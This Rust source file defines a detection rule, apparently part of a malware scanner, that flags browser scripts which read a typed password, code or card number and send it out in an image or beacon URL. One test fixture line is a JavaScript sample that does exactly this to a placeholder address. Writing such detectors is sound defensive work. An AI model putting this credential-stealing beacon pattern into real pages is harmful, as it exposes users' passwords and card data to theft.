//! `secret-in-image-address`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "secret-in-image-address",
    description: "The script reads a typed password, code or card number and immediately sends it out in an image or beacon URL.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SecretByImage]), one(&[Atom::Image, Atom::AddressFromData, Atom::Beacon])],
    within: 100,
    only_if: Some(is_near),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "b.onclick=function(){var p=document.getElementById('password').value;new Image().src='<url>/?p='+encodeURIComponent(p)}",
        ],
        without: &[
            "b.onclick=function(){var p=document.getElementById('password').value;if(p)new Image().src='//c.example/e.gif?e=login'}",
        ],
    },
};

/// Whether the secret is read and sent in a few lines: in a bundle, values that share a name mix over long ways.
fn is_near(_: &Evidence<'_>, held: Held) -> bool {
    held.last - held.first <= NEAR
}

const NEAR: u32 = 120;
